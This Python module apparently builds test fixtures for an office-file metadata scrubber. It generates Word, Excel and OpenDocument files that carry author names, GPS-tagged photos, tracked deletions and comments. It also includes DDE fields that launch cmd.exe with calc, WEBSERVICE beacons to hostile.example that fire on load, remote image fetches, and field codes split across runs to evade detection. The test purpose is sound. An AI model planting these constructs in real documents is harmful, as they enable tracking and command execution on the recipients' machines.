"""The office files of the hostile corpus (see hostile_files.py): Word, Excel and OpenDocument
files carrying every kind of trace a reviewer found leaking, made here from nothing."""

from __future__ import annotations

import io
import zipfile

from PIL import Image

from .hostile_common import AUTHOR, URL, VISIBLE, jpeg_with_gps

# --- DOCX -------------------------------------------------------------------------------

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_CT = "http://schemas.openxmlformats.org/package/2006/content-types"
_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def _rels(*rels: tuple[str, str, str, str]) -> str:
    body = "".join(
        f'<Relationship Id="{rid}" Type="{_REL}{kind}" Target="{target}"{mode}/>'
        for rid, kind, target, mode in rels
    )
    return f'{_DECL}<Relationships xmlns="{_PKG_REL}">{body}</Relationships>'


def _types(overrides: dict[str, str]) -> str:
    body = (
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="jpeg" ContentType="image/jpeg"/>'
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.'
        'oleObject"/>'
    )
    body += "".join(
        f'<Override PartName="/{name}" ContentType="{kind}"/>' for name, kind in overrides.items()
    )
    return f'{_DECL}<Types xmlns="{_CT}">{body}</Types>'


_CORE = (
    f'{_DECL}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
    'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" '
    'xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-'
    f'instance"><dc:creator>{AUTHOR}</dc:creator><cp:lastModifiedBy>{AUTHOR}</cp:lastModifiedBy>'
    '<dcterms:created xsi:type="dcterms:W3CDTF">2024-03-05T10:00:00Z</dcterms:created>'
    "</cp:coreProperties>"
)
_APP = (
    f'{_DECL}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-'
    'properties"><Company>HOSTILE-COMPANY</Company><Manager>HOSTILE-MANAGER</Manager>'
    "</Properties>"
)
_CUSTOM = (
    f'{_DECL}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-'
    'properties"><property name="HOSTILE-CUSTOM"/></Properties>'
)
_CUSTOM_XML = (
    '<?xml version="1.0"?><p:properties xmlns:p="http://schemas.microsoft.com/office/2006/'
    'metadata/properties"><documentManagement><Editor><DisplayName>HOSTILE-SHAREPOINT-NAME'
    "</DisplayName><AccountId>hostile@hostile.example</AccountId></Editor>"
    "</documentManagement></p:properties>"
)
_NS = (
    f'xmlns:w="{_W}" xmlns:r="{_R}" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:mc="http://schemas.openxmlformats.org/'
    'markup-compatibility/2006" xmlns:w14="http://schemas.microsoft.com/office/word/2010/'
    'wordml" xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml" '
    'mc:Ignorable="w14 w15"'
)
_WHEN = 'w:author="HOSTILE-AUTHOR Mehrigul" w:date="2024-03-05T10:00:00Z"'


def docx_hostile() -> bytes:
    document = (
        f"{_DECL}<w:document {_NS}><w:body>"
        f'<w:p w:rsidR="00A1B2C3" w:rsidRDefault="00D4E5F6" w14:paraId="1A2B3C4D">'
        f"<w:r><w:t>{VISIBLE}</w:t></w:r></w:p>"
        f'<w:p><w:ins w:id="1" {_WHEN}><w:r><w:t>Inserted and accepted.</w:t></w:r></w:ins>'
        f'<w:del w:id="2" {_WHEN}><w:r><w:delText>HOSTILE-DELETED passage</w:delText></w:r>'
        "</w:del></w:p>"
        '<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>Commented.</w:t></w:r>'
        '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>'
        '<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>Link text stays.</w:t></w:r></w:hyperlink>'
        "</w:p>"
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space='
        f'"preserve"> INCLUDEPICTURE "{URL}" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdOle"/>'
        "</w:object></w:r></w:p>"
        '<w:p><w:r><w:drawing><w:pict><v:shape><v:imagedata r:id="rIdPhoto"/></v:shape>'
        "</w:pict></w:drawing></w:r></w:p>"
        "</w:body></w:document>"
    )
    settings = (
        f'{_DECL}<w:settings {_NS}><w:attachedTemplate r:id="rIdTemplate"/>'
        '<w:docVars><w:docVar w:name="HOSTILE-DOCVAR" w:val="HOSTILE-DOCVAR-VALUE"/></w:docVars>'
        '<w:rsids><w:rsidRoot w:val="00A1B2C3"/><w:rsid w:val="00D4E5F6"/></w:rsids>'
        '<w14:docId w14:val="1A2B3C4D"/><w15:docId w15:val="{HOSTILE-GUID}"/>'
        "</w:settings>"
    )
    comments = (
        f'{_DECL}<w:comments {_NS}><w:comment w:id="0" {_WHEN} w:initials="HM">'
        "<w:p><w:r><w:t>A comment on the evidence.</w:t></w:r></w:p></w:comment></w:comments>"
    )
    people = (
        f'{_DECL}<w15:people {_NS}><w15:person w15:author="{AUTHOR}"><w15:presenceInfo '
        'w15:providerId="AD" w15:userId="hostile@hostile.example"/></w15:person></w15:people>'
    )
    comments_extended = (
        f'{_DECL}<w15:commentsEx {_NS}><w15:commentEx w15:paraId="1A2B3C4D" w15:done="0"/>'
        "</w15:commentsEx>"
    )
    ctype = "application/vnd.openxmlformats-officedocument."
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": _types(
            {
                "word/document.xml": ctype + "wordprocessingml.document.main+xml",
                "word/settings.xml": ctype + "wordprocessingml.settings+xml",
                "word/comments.xml": ctype + "wordprocessingml.comments+xml",
                "word/people.xml": ctype + "wordprocessingml.people+xml",
                "word/commentsExtended.xml": ctype + "wordprocessingml.commentsExtended+xml",
                "docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
                "docProps/app.xml": ctype + "extended-properties+xml",
                "docProps/custom.xml": ctype + "custom-properties+xml",
                "customXml/itemProps1.xml": ctype + "customXmlProperties+xml",
            }
        ),
        "_rels/.rels": _rels(
            ("rId1", "officeDocument", "word/document.xml", ""),
            ("rId2", "metadata/core-properties", "docProps/core.xml", ""),
            ("rId3", "extended-properties", "docProps/app.xml", ""),
            ("rId4", "custom-properties", "docProps/custom.xml", ""),
        ),
        "docProps/core.xml": _CORE,
        "docProps/app.xml": _APP,
        "docProps/custom.xml": _CUSTOM,
        "customXml/item1.xml": _CUSTOM_XML,
        "customXml/itemProps1.xml": '<?xml version="1.0"?><ds:datastoreItem ds:itemID='
        '"{HOSTILE-ITEM}" xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/'
        'customXml"/>',
        "customXml/_rels/item1.xml.rels": _rels(("rId1", "customXmlProps", "itemProps1.xml", "")),
        "word/document.xml": document,
        "word/settings.xml": settings,
        "word/comments.xml": comments,
        "word/people.xml": people,
        "word/commentsExtended.xml": comments_extended,
        "word/printerSettings/printerSettings1.bin": "HOSTILE-PRINTER \\\\office\\laser",
        "word/embeddings/oleObject1.bin": "HOSTILE-OLE C:\\Users\\Mehrigul\\secret.txt",
        "word/media/image1.jpeg": jpeg_with_gps(),
        "word/_rels/document.xml.rels": _rels(
            ("rIdSettings", "settings", "settings.xml", ""),
            ("rIdComments", "comments", "comments.xml", ""),
            ("rIdPeople", "people", "people.xml", ""),
            ("rIdCx", "commentsExtended", "commentsExtended.xml", ""),
            ("rIdCustom", "customXml", "../customXml/item1.xml", ""),
            ("rIdOle", "oleObject", "embeddings/oleObject1.bin", ""),
            ("rIdPrinter", "printerSettings", "printerSettings/printerSettings1.bin", ""),
            ("rIdPhoto", "image", "media/image1.jpeg", ""),
            ("rIdLink", "hyperlink", URL, ' TargetMode="External"'),
        ),
        "word/_rels/settings.xml.rels": _rels(
            (
                "rIdTemplate",
                "attachedTemplate",
                "file:///C:/Users/HOSTILE-USER/AppData/Templates/Normal.dotm",
                ' TargetMode="External"',
            ),
        ),
    }
    return _zip(parts)


# --- XLSX -------------------------------------------------------------------------------

_X = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_XNS = (
    f'xmlns="{_X}" xmlns:r="{_R}" xmlns:mc="http://schemas.openxmlformats.org/markup-'
    'compatibility/2006" xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/'
    '11/ac" xmlns:xr="http://schemas.microsoft.com/office/spreadsheetml/2014/revision" '
    'xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac" '
    'mc:Ignorable="x15ac xr x14ac"'
)


def xlsx_hostile() -> bytes:
    workbook = (
        f"{_DECL}<workbook {_XNS}>"
        '<fileSharing userName="HOSTILE-AUTHOR Mehrigul" reservationPassword="CC3D"/>'
        '<mc:AlternateContent><mc:Choice Requires="x15"><x15ac:absPath url="C:\\Users\\'
        'HOSTILE-USER\\Documents\\"/></mc:Choice></mc:AlternateContent>'
        '<xr:revisionPtr revIDLastSave="0" documentId="HOSTILE-REVISION-ID"/>'
        '<sheets><sheet name="Evidence" sheetId="1" r:id="rIdSheet"/></sheets>'
        '<externalReferences><externalReference r:id="rIdExt"/></externalReferences>'
        "</workbook>"
    )
    sheet = (
        f'{_DECL}<worksheet {_XNS} xr:uid="{{HOSTILE-UID}}"><sheetData><row r="1" '
        'x14ac:dyDescent="0.25"><c r="A1" t="inlineStr"><is><t>Last seen 2017</t></is></c>'
        "</row></sheetData>"
        '<hyperlinks><hyperlink ref="A1" r:id="rIdLink"/></hyperlinks>'
        '<pageSetup orientation="portrait" r:id="rIdPrinter"/>'
        "</worksheet>"
    )
    comments = (
        f"{_DECL}<comments {_XNS}><authors><author>tc={{HOSTILE-GUID}}</author><author>"
        f'{AUTHOR}</author></authors><commentList><comment ref="A1" authorId="1">'
        "<text><r><t>A note on the evidence.</t></r></text></comment></commentList></comments>"
    )
    threaded = (
        f'{_DECL}<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/'
        '2018/threadedcomments"><threadedComment ref="A1" dT="2024-03-05T10:00:00.00" '
        'personId="{HOSTILE-PERSON}" id="{HOSTILE-ID}"><text>HOSTILE-THREAD</text>'
        "</threadedComment></ThreadedComments>"
    )
    persons = (
        f'{_DECL}<personList xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/'
        f'threadedcomments"><person displayName="{AUTHOR}" id="{{HOSTILE-PERSON}}" '
        'userId="hostile@hostile.example" providerId="AD"/></personList>'
    )
    external = (
        f'{_DECL}<externalLink xmlns="{_X}"><externalBook xmlns:r="{_R}" r:id="rId1"/>'
        "</externalLink>"
    )
    ctype = "application/vnd.openxmlformats-officedocument."
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": _types(
            {
                "xl/workbook.xml": ctype + "spreadsheetml.sheet.main+xml",
                "xl/worksheets/sheet1.xml": ctype + "spreadsheetml.worksheet+xml",
                "xl/comments1.xml": ctype + "spreadsheetml.comments+xml",
                "xl/threadedComments/threadedComment1.xml": "application/vnd.ms-excel."
                "threadedcomments+xml",
                "xl/persons/person.xml": "application/vnd.ms-excel.person+xml",
                "xl/externalLinks/externalLink1.xml": ctype + "spreadsheetml.externalLink+xml",
                "docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
            }
        ),
        "_rels/.rels": _rels(
            ("rId1", "officeDocument", "xl/workbook.xml", ""),
            ("rId2", "metadata/core-properties", "docProps/core.xml", ""),
        ),
        "docProps/core.xml": _CORE,
        "customXml/item1.xml": _CUSTOM_XML,
        "xl/workbook.xml": workbook,
        "xl/worksheets/sheet1.xml": sheet,
        "xl/comments1.xml": comments,
        "xl/threadedComments/threadedComment1.xml": threaded,
        "xl/persons/person.xml": persons,
        "xl/externalLinks/externalLink1.xml": external,
        "xl/externalLinks/_rels/externalLink1.xml.rels": _rels(
            (
                "rId1",
                "externalLinkPath",
                "file:///C:\\Users\\HOSTILE-USER\\book2.xlsx",
                ' TargetMode="External"',
            )
        ),
        "xl/printerSettings/printerSettings1.bin": "HOSTILE-PRINTER",
        "xl/embeddings/oleObject1.bin": "HOSTILE-OLE",
        "xl/_rels/workbook.xml.rels": _rels(
            ("rIdSheet", "worksheet", "worksheets/sheet1.xml", ""),
            ("rIdExt", "externalLink", "externalLinks/externalLink1.xml", ""),
            ("rIdPersons", "person", "persons/person.xml", ""),
            ("rIdCustom", "customXml", "../customXml/item1.xml", ""),
        ),
        "xl/worksheets/_rels/sheet1.xml.rels": _rels(
            ("rIdComments", "comments", "../comments1.xml", ""),
            ("rIdThreaded", "threadedComment", "../threadedComments/threadedComment1.xml", ""),
            ("rIdPrinter", "printerSettings", "../printerSettings/printerSettings1.bin", ""),
            ("rIdLink", "hyperlink", URL, ' TargetMode="External"'),
        ),
    }
    return _zip(parts)


# --- ODT --------------------------------------------------------------------------------

_ODF = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dc="http://purl.org/dc/elements/1.1/" '
    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:officeooo="http://openoffice.org/2009/office" office:version="1.3"'
)


def odt_hostile() -> bytes:
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {_ODF}>'
        "<office:scripts><office:event-listeners><script:event-listener script:event-name="
        '"dom:load" xlink:href="vnd.sun.star.script:HOSTILE-MACRO"/></office:event-listeners>'
        "</office:scripts><office:body><office:text>"
        '<text:tracked-changes><text:changed-region text:id="c1"><text:deletion>'
        f"<office:change-info><dc:creator>{AUTHOR}</dc:creator><dc:date>2024-03-05T10:00:00"
        "</dc:date></office:change-info><text:p>HOSTILE-DELETED passage</text:p>"
        "</text:deletion></text:changed-region></text:tracked-changes>"
        f'<text:p officeooo:rsid="00HOSTILE">{VISIBLE}<text:change text:change-id="c1"/></text:p>'
        f"<text:p><office:annotation><dc:creator>{AUTHOR}</dc:creator><dc:date>"
        "2024-03-05T10:00:00</dc:date><meta:creator-initials>HM</meta:creator-initials>"
        "<text:p>A comment on the evidence.</text:p></office:annotation>Commented.</text:p>"
        f'<text:p><text:a xlink:type="simple" xlink:href="{URL}">Link text stays.</text:a></text:p>'
        f"<text:p>Written by <text:author-name>{AUTHOR}</text:author-name>.</text:p>"
        f'<text:p><draw:frame><draw:image xlink:href="{URL}"/></draw:frame>'
        '<draw:frame><draw:image xlink:href="Pictures/photo.jpg"/></draw:frame>'
        '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></text:p>'
        "</office:text></office:body></office:document-content>"
    )
    meta = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-meta {_ODF}><office:meta>'
        f"<meta:initial-creator>{AUTHOR}</meta:initial-creator><dc:creator>{AUTHOR}"
        "</dc:creator><meta:creation-date>2024-03-05T10:00:00</meta:creation-date>"
        "</office:meta></office:document-meta>"
    )
    settings = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-settings {_ODF}>'
        "<office:settings>HOSTILE-PRINTER</office:settings></office:document-settings>"
    )
    entries = [
        ("/", "application/vnd.oasis.opendocument.text"),
        ("content.xml", "text/xml"),
        ("meta.xml", "text/xml"),
        ("settings.xml", "text/xml"),
        ("Pictures/photo.jpg", "image/jpeg"),
        ("Thumbnails/thumbnail.png", "image/png"),
        ("Basic/Standard/Module1.xml", "text/xml"),
        ("Object 1/content.xml", "text/xml"),
        ("Configurations2/", "application/vnd.sun.xml.ui.configuration"),
    ]
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest="urn:oasis:'
        'names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        + "".join(
            f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{kind}"/>'
            for path, kind in entries
        )
        + "</manifest:manifest>"
    )
    thumbnail = io.BytesIO()
    Image.new("RGB", (8, 8)).save(thumbnail, "PNG")
    parts: dict[str, str | bytes] = {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": content,
        "meta.xml": meta,
        "settings.xml": settings,
        "META-INF/manifest.xml": manifest,
        "Pictures/photo.jpg": jpeg_with_gps(),
        "Thumbnails/thumbnail.png": thumbnail.getvalue(),
        "Basic/Standard/Module1.xml": 'HOSTILE-MACRO Shell("calc.exe")',
        "Object 1/content.xml": f"<x>{AUTHOR}</x>",
        "manifest.rdf": "HOSTILE-RDF",
    }
    return _zip(parts)


def _zip(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, body in parts.items():
            data = body.encode() if isinstance(body, str) else body
            method = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, data, compress_type=method)
    return out.getvalue()


# --- what a second review found: split field codes, VML links, formulas, inline ODF data ------


def _replace(data: bytes, replace: dict[str, str | bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts: dict[str, str | bytes] = {n: archive.read(n) for n in archive.namelist()}
    parts.update(replace)
    return _zip(parts)


def _field(*code: str, result: str = "") -> str:
    """A complex field whose code is split over several runs, as Word may save it."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in code
    )
    shown = f"<w:r><w:t>{result}</w:t></w:r>" if result else ""
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r>{shown}'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def docx_split_fields() -> bytes:
    """Field codes split across runs: no single piece looks like a link or a DDE call."""
    document = (
        f"{_DECL}<w:document {_NS}><w:body><w:p><w:r><w:t>{VISIBLE}</w:t></w:r></w:p>"
        + _field(" INCLUDEPICT", 'URE "http:', "/", '/hostile.example/split.png" ')
        + _field(" DDEA", 'UTO c:\\windows\\system32\\cmd.exe "/k HOSTILE-CALC" ')
        + _field(" IMP", 'ORT "http:', "/", '/hostile.example/import.png" ', result="Shown.")
        + '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\HOSTILE-SERVER\\share&quot; ">'
        "<w:r><w:t>Simple result.</w:t></w:r></w:fldSimple></w:p>"
        "</w:body></w:document>"
    )
    return _replace(docx_hostile(), {"word/document.xml": document})


def docx_vml_links() -> bytes:
    """VML pictures fetched from a web address on opening (src, o:href), and a drawing's
    picture linked rather than embedded (r:link to an external relationship)."""
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    document = (
        f"{_DECL}<w:document {_NS}><w:body><w:p><w:r><w:t>{VISIBLE}</w:t></w:r></w:p>"
        '<w:p><w:r><w:pict><v:shape><v:imagedata src="http://hostile.example/vml.png" '
        'o:href="http://hostile.example/href.png" o:title=""/>'
        '<v:fill src="\\\\HOSTILE-SERVER\\fill.png"/></v:shape></w:pict></w:r></w:p>'
        f'<w:p><w:r><w:drawing><a:blip xmlns:a="{a}" r:link="rIdRemote"/></w:drawing></w:r></w:p>'
        "</w:body></w:document>"
    )
    remote = ' TargetMode="External"'
    rels = _rels(("rIdRemote", "image", "http://hostile.example/blip.png", remote))
    return _replace(
        docx_hostile(),
        {"word/document.xml": document, "word/_rels/document.xml.rels": rels},
    )


def xlsx_formulas() -> bytes:
    """Formulas that call out when Excel recalculates on opening, as it is told to."""
    workbook = (
        f"{_DECL}<workbook {_XNS}>"
        '<sheets><sheet name="Evidence" sheetId="1" r:id="rIdSheet"/></sheets>'
        '<definedNames><definedName name="beacon">WEBSERVICE("http://hostile.example/name")'
        "</definedName></definedNames>"
        '<calcPr calcId="191029" fullCalcOnLoad="1"/></workbook>'
    )
    sheet = (
        f'{_DECL}<worksheet {_XNS}><sheetData><row r="1">'
        '<c r="A1" t="inlineStr"><is><t>Last seen 2017</t></is></c>'
        '<c r="B1" t="str"><f>WEBSERVICE("http://hostile.example/ws?id="&amp;A1)</f>'
        "<v>Cached value</v></c>"
        '<c r="C1" t="e"><f>_xlfn.IMAGE("https://hostile.example/img.png")</f><v>#NAME?</v></c>'
        '<c r="D1" t="str"><f>HOSTILE|\'/c calc\'!A0</f><v>0</v></c>'
        "</row></sheetData>"
        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
        '<formula>LEN(WEBSERVICE("http://hostile.example/cf"))</formula></cfRule>'
        "</conditionalFormatting></worksheet>"
    )
    return _replace(
        xlsx_hostile(),
        {
            "xl/workbook.xml": workbook,
            "xl/worksheets/sheet1.xml": sheet,
            "xl/connections.xml": '<connections><connection name="HOSTILE-QUERY"/></connections>',
        },
    )


def _base64(data: bytes) -> str:
    import base64

    return base64.b64encode(data).decode()


def odt_inline() -> bytes:
    """Data held inside content.xml itself: a photo with its EXIF, an OLE object; and DDE,
    macro, script and sender fields."""
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {_ODF}>'
        "<office:body><office:text>"
        '<text:dde-connection-decls><text:dde-connection-decl office:name="HOSTILE-DDE-LINK" '
        'office:dde-application="cmd" office:dde-topic="/k calc" office:dde-item="x"/>'
        "</text:dde-connection-decls>"
        f"<text:p>{VISIBLE}</text:p>"
        f"<text:p><draw:frame><draw:image><office:binary-data>{_base64(jpeg_with_gps())}"
        "</office:binary-data></draw:image></draw:frame>"
        "<draw:frame><draw:object-ole><office:binary-data>"
        f"{_base64(b'HOSTILE-OLE C:/Users/Mehrigul/secret.txt')}</office:binary-data>"
        "</draw:object-ole></draw:frame>"
        '<draw:frame><draw:plugin xlink:href="http://hostile.example/plugin"/></draw:frame></text:p>'
        '<text:p><text:execute-macro text:name="HOSTILE-MACRO">Press</text:execute-macro>'
        '<text:script script:language="JavaScript">HOSTILE-SCRIPT</text:script>'
        "<text:sender-firstname>HOSTILE-SENDER</text:sender-firstname>"
        '<text:dde-connection text:connection-name="HOSTILE-DDE-LINK">HOSTILE-DDE'
        "</text:dde-connection>"
        "</text:p></office:text></office:body></office:document-content>"
    )
    return _replace(odt_hostile(), {"content.xml": content})
